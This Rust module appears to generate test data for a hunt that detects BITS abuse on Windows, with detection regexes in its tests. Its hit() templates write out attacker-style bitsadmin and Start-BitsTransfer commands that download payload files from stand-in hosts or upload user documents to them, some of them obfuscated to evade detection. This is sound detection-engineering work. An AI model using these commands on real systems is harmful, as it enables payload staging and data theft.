//! Windows process command lines: everyday ones, BITS transfers the hunt must find (some
//! obfuscated with `^`, `"`, `+`, `%` or `$` as attackers do) and near misses that look like
//! BITS use but must not match (`/list`, `Get-BitsTransfer`, the wrong letter case...).
//!
//! The templates are written for this generator. Lengths stay within 40-400 characters.

use crate::rng::Rng;

/// A process: its image path and the command line it was started with.
#[derive(Debug, Clone)]
pub struct Process {
    /// The full path of the executable, as `FolderPath` and `NewProcessName` give it.
    pub image: String,
    /// The command line, as `ProcessCommandLine` and `CommandLine` give it.
    pub command_line: String,
}

impl Process {
    fn new(image: &str, command_line: String) -> Process {
        Process {
            image: image.to_string(),
            command_line,
        }
    }

    /// The executable's file name, as `FileName` gives it.
    pub fn file_name(&self) -> &str {
        self.image.rsplit('\\').next().unwrap_or(&self.image)
    }
}

const SYSTEM32: &str = r"C:\Windows\System32";
const CMD: &str = r"C:\Windows\System32\cmd.exe";
const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
const BITSADMIN: &str = r"C:\Windows\System32\bitsadmin.exe";

const USERS: &[&str] = &[
    "jdoe",
    "asmith",
    "mlee",
    "kpatel",
    "rgarcia",
    "tnguyen",
    "svc_build",
    "svc_backup",
    "lchen",
    "obrien",
    "fmuller",
    "ysato",
];
const SERVICES: &[&str] = &[
    "Schedule",
    "BITS",
    "Dnscache",
    "wuauserv",
    "EventLog",
    "LanmanServer",
    "Winmgmt",
    "CryptSvc",
    "DiagTrack",
    "WSearch",
];
const SERVICE_GROUPS: &[&str] = &[
    "netsvcs",
    "LocalServiceNetworkRestricted",
    "DcomLaunch",
    "LocalSystemNetworkRestricted",
    "NetworkService",
];
const VENDORS: &[&str] = &["Contoso", "Fabrikam", "Northwind", "Tailspin", "Litware"];
const HOSTS: &[&str] = &[
    "raw.githubusercontent.com",
    "cdn.fabrikam-updates.net",
    "198.51.100.23",
    "203.0.113.9",
    "files.litware.io",
    "download.tailspin-toys.com",
];
const FILES: &[&str] = &[
    "p.exe",
    "stage2.bin",
    "update.ps1",
    "payload.dll",
    "7z.exe",
    "report.zip",
    "svchost32.exe",
];

/// A user name.
pub fn user(rng: &mut Rng) -> &'static str {
    rng.pick(USERS)
}

fn number(rng: &mut Rng, digits: u32) -> u64 {
    rng.below(10u64.pow(digits))
}

fn url(rng: &mut Rng) -> String {
    let scheme = if rng.chance(700) { "https" } else { "http" };
    let host = rng.pick(HOSTS);
    let file = rng.pick(FILES);
    format!("{scheme}://{host}/{}/{file}", number(rng, 6))
}

fn job(rng: &mut Rng) -> String {
    let names = [
        "myDownloadJob",
        "updjob",
        "Packages",
        "AtomicJob",
        "winupd",
        "job",
    ];
    format!("{}{}", rng.pick(&names), number(rng, 3))
}

/// An everyday command line.
pub fn benign(rng: &mut Rng) -> Process {
    let user = user(rng);
    match rng.below(14) {
        0 => {
            let group = rng.pick(SERVICE_GROUPS);
            let service = rng.pick(SERVICES);
            let image = r"C:\Windows\System32\svchost.exe";
            Process::new(image, format!("{image} -k {group} -p -s {service}"))
        }
        1 => {
            let image = r"C:\Program Files\Google\Chrome\Application\chrome.exe";
            let line = format!(
                "\"{image}\" --type=renderer --lang=en-US --field-trial-handle={},{},{:x},{} \
                 --renderer-client-id={} --mojo-platform-channel-handle={} /prefetch:{}",
                number(rng, 4),
                number(rng, 6),
                rng.next_u64(),
                number(rng, 6),
                number(rng, 3),
                number(rng, 4),
                rng.below(9) + 1
            );
            Process::new(image, line)
        }
        2 => {
            let image = r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe";
            let line = format!(
                "\"{image}\" --type=utility --utility-sub-type=network.mojom.NetworkService \
                 --lang=en-US --service-sandbox-type=none --field-trial-handle={},{:x} /prefetch:8",
                number(rng, 5),
                rng.next_u64()
            );
            Process::new(image, line)
        }
        3 => {
            let vendor = rng.pick(VENDORS);
            let line = format!(
                "powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Bypass -File \
                 C:\\ProgramData\\{vendor}\\scripts\\inventory_{}.ps1 -Mode Full",
                number(rng, 3)
            );
            Process::new(POWERSHELL, line)
        }
        4 => {
            let line = format!(
                "\"{POWERSHELL}\" -Command \"Get-Service | Where-Object {{$_.Status -eq \
                 'Running'}} | Export-Csv C:\\Temp\\svc_{}.csv -NoTypeInformation\"",
                number(rng, 5)
            );
            Process::new(POWERSHELL, line)
        }
        5 => {
            let image = r"C:\Windows\System32\conhost.exe";
            Process::new(image, format!("\\??\\{image} 0xffffffff -ForceV1"))
        }
        6 => {
            let image = r"C:\Windows\System32\wbem\WmiPrvSE.exe";
            Process::new(image, format!("{image} -secured -Embedding"))
        }
        7 => {
            let vendor = rng.pick(VENDORS);
            let line = format!(
                "msiexec.exe /i \"C:\\Users\\{user}\\Downloads\\{vendor}Agent-{}.{}.msi\" /qn \
                 /norestart /L*v \"%TEMP%\\{vendor}_install.log\"",
                rng.below(9) + 1,
                number(rng, 2)
            );
            Process::new(r"C:\Windows\System32\msiexec.exe", line)
        }
        8 => {
            let vendor = rng.pick(VENDORS);
            let line = format!(
                "schtasks.exe /Create /SC DAILY /TN \"{vendor}\\Update\" /TR \
                 \"C:\\Program Files\\{vendor}\\update.exe --silent\" /ST 0{}:{}0 /F",
                rng.below(10),
                rng.below(6)
            );
            Process::new(r"C:\Windows\System32\schtasks.exe", line)
        }
        9 => {
            let line = format!(
                "\"C:\\Program Files\\Git\\mingw64\\bin\\git.exe\" -c core.quotepath=false \
                 fetch --prune origin +refs/heads/*:refs/remotes/origin/* --depth={}",
                rng.below(50) + 1
            );
            Process::new(r"C:\Program Files\Git\mingw64\bin\git.exe", line)
        }
        10 => {
            let depts = ["finance", "hr", "legal", "eng", "sales"];
            let dept = rng.pick(&depts);
            let line = format!(
                "robocopy.exe \"\\\\fs01\\share\\{dept}\" \"D:\\backup\\{dept}\" /MIR /R:2 /W:5 \
                 /LOG+:C:\\logs\\robocopy_%DATE:~-4%.log"
            );
            Process::new(r"C:\Windows\System32\Robocopy.exe", line)
        }
        11 => {
            let line = format!(
                "{CMD} /d /c \"C:\\Program Files\\nodejs\\npm.cmd\" run build --if-present \
                 --prefix C:\\src\\{user}\\web-{}",
                number(rng, 2)
            );
            Process::new(CMD, line)
        }
        12 => {
            let line = format!(
                "\"{SYSTEM32}\\curl.exe\" -sS -o \"%TEMP%\\status_{}.json\" \
                 https://api.contoso.com/v2/devices/{:x}/status",
                number(rng, 4),
                rng.next_u64()
            );
            Process::new(r"C:\Windows\System32\curl.exe", line)
        }
        _ => {
            let line = format!(
                "\"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe\" \
                 --type=gpu-process --gpu-preferences={:x} --mojo-platform-channel-handle={}",
                rng.next_u64(),
                number(rng, 4)
            );
            let image = format!(r"C:\Users\{user}\AppData\Local\Microsoft\Teams\current\Teams.exe");
            Process {
                image,
                command_line: line,
            }
        }
    }
}

/// A command line that looks like BITS use but that the hunt must not report.
pub fn near_miss(rng: &mut Rng) -> Process {
    let url = url(rng);
    let job = job(rng);
    match rng.below(7) {
        0 => Process::new(
            BITSADMIN,
            format!("bitsadmin /list /allusers /verbose /{job}"),
        ),
        1 => Process::new(
            BITSADMIN,
            format!("bitsadmin.exe /info {job} /verbose /allusers"),
        ),
        2 => {
            let line = "powershell.exe -NoProfile -c \"Get-BitsTransfer -AllUsers | \
                        Remove-BitsTransfer\"";
            Process::new(POWERSHELL, line.to_string())
        }
        3 => {
            // The hunt's pattern wants a lowercase `source `/`destination `.
            let line = format!(
                "powershell.exe -c \"Start-BitsTransfer -Source {url} -Destination \
                 C:\\Windows\\Temp\\sensor.msi\""
            );
            Process::new(POWERSHELL, line)
        }
        4 => {
            // `matches regex` is case-sensitive.
            let line = format!("BItSAdMIN /TrAnSFEr {job} /doWnloaD /prIorItY normal {url}");
            Process::new(BITSADMIN, line)
        }
        5 => {
            let line = format!("bitsadmin /transfer \"{job}\" /priority FOREGROUND \"{url}\"");
            Process::new(BITSADMIN, line)
        }
        _ => {
            let group = "netsvcs";
            let image = r"C:\Windows\System32\svchost.exe";
            Process::new(image, format!("{image} -k {group} -p -s BITS"))
        }
    }
}

/// A BITS transfer the hunt reports, plain or obfuscated.
pub fn hit(rng: &mut Rng) -> Process {
    let url = url(rng);
    let job = job(rng);
    let file = rng.pick(FILES);
    let user = user(rng);
    let priority = rng.pick(&["normal", "foreground", "high"]);
    match rng.below(9) {
        0 => {
            let line = format!(
                "bitsadmin /transfer {job} /download /priority {priority} {url} \
                 C:\\Users\\{user}\\AppData\\Local\\Temp\\{file}"
            );
            Process::new(BITSADMIN, line)
        }
        1 => {
            let line = format!(
                "{CMD} /c \"bitsadmin.exe /transfer {job} /download /priority {priority} {url} \
                 %TEMP%\\{file}\""
            );
            Process::new(CMD, line)
        }
        2 => {
            let line = format!(
                "bitsadmin /transfer {job} /upload /priority {priority} {url} \
                 C:\\Users\\{user}\\Documents\\q3_{file}"
            );
            Process::new(BITSADMIN, line)
        }
        3 => {
            let plain = format!("bitsadmin /transfer {job} /download {url} %TEMP%\\{file}");
            Process::new(CMD, format!("cmd.exe /c {}", with_carets(rng, &plain)))
        }
        4 => {
            let line = format!(
                "cmd.exe /c bits\"\"admin /trans\"\"fer {job} /down\"\"load {url} %TEMP%\\{file}"
            );
            Process::new(CMD, line)
        }
        5 => {
            let line = format!(
                "powershell -w hidden -c \"Start-\"+\"BitsTransfer -Source {url} -Destination \
                 $env:TEMP\\{file} -Asynchronous -Priority low\""
            );
            Process::new(POWERSHELL, line)
        }
        6 => {
            let line = format!(
                "powershell.exe -nop -c \"$u='{url}'; Start-BitsTransfer -source $u \
                 -destination $env:APPDATA\\{file} -TransferType Download\""
            );
            Process::new(POWERSHELL, line)
        }
        7 => {
            let line = format!(
                "powershell.exe -c \"Start-BitsTransfer -Source C:\\Users\\{user}\\Documents\\\
                 {file} -Destination {url} -TransferType Upload\""
            );
            Process::new(POWERSHELL, line)
        }
        _ => {
            let line =
                format!("c:\\windows\\system32\\bitsad%min%.exe /transfer {job} /download {url}");
            Process::new(CMD, format!("cmd.exe /v /c \"{line}\""))
        }
    }
}

/// `text` with a caret after some letters, as `cmd.exe` obfuscation does: cmd drops them.
fn with_carets(rng: &mut Rng, text: &str) -> String {
    let mut out = String::with_capacity(text.len() * 2);
    for c in text.chars() {
        out.push(c);
        if c.is_ascii_alphabetic() && rng.chance(400) {
            out.push('^');
        }
    }
    out
}

/// A parent process's command line for a child.
pub fn parent(rng: &mut Rng, user: &str) -> Process {
    match rng.below(4) {
        0 => Process::new(
            r"C:\Windows\explorer.exe",
            r"C:\Windows\Explorer.EXE".to_string(),
        ),
        1 => {
            let line = format!(
                "{CMD} /c C:\\Users\\{user}\\scripts\\logon_{}.cmd",
                rng.below(9)
            );
            Process::new(CMD, line)
        }
        2 => {
            let image = r"C:\Windows\System32\svchost.exe";
            let group = rng.pick(SERVICE_GROUPS);
            Process::new(image, format!("{image} -k {group} -p -s Schedule"))
        }
        _ => benign(rng),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use regex::Regex;

    const BITS_CMD: &str = r"(.*)bitsadmin(.exe)?(.+)(download |upload )(.*)";
    const BITS_PWSH: &str = concat!(
        r"(.*)Start-BitsTransfer(.+)",
        r"(((destination |source ).+){2}|Asynchronous |TransferType )(.*)"
    );
    const CLEAR_OBF: &str = r#"(\^|(")+|\$|%|\+|("\+"))"#;

    fn reported(line: &str) -> bool {
        static PATTERNS: std::sync::OnceLock<[Regex; 3]> = std::sync::OnceLock::new();
        let [clear, cmd, pwsh] = PATTERNS.get_or_init(|| {
            [CLEAR_OBF, BITS_CMD, BITS_PWSH].map(|pattern| Regex::new(pattern).unwrap())
        });
        let deobfuscated = clear.replace_all(line, "");
        cmd.is_match(&deobfuscated) || pwsh.is_match(&deobfuscated)
    }

    fn lines(kind: fn(&mut Rng) -> Process) -> Vec<String> {
        (0..3000)
            .map(|i| kind(&mut Rng::for_stream(42, 9, i)).command_line)
            .collect()
    }

    #[test]
    fn every_hit_is_reported_by_the_hunt() {
        for line in lines(hit) {
            assert!(reported(&line), "{line}");
        }
    }

    #[test]
    fn near_misses_and_everyday_lines_are_not() {
        for line in lines(near_miss).into_iter().chain(lines(benign)) {
            assert!(!reported(&line), "{line}");
        }
    }

    #[test]
    fn lengths_are_realistic() {
        let all = lines(benign)
            .into_iter()
            .chain(lines(hit))
            .chain(lines(near_miss));
        for line in all {
            assert!((40..=400).contains(&line.len()), "{} {line}", line.len());
        }
    }

    #[test]
    fn some_hits_are_obfuscated() {
        let hits = lines(hit);
        assert!(hits.iter().any(|line| line.contains('^')));
        assert!(hits.iter().any(|line| line.contains("\"+\"")));
        assert!(hits.iter().any(|line| line.contains("\"\"")));
        assert!(hits.iter().any(|line| line.contains('%')));
    }
}
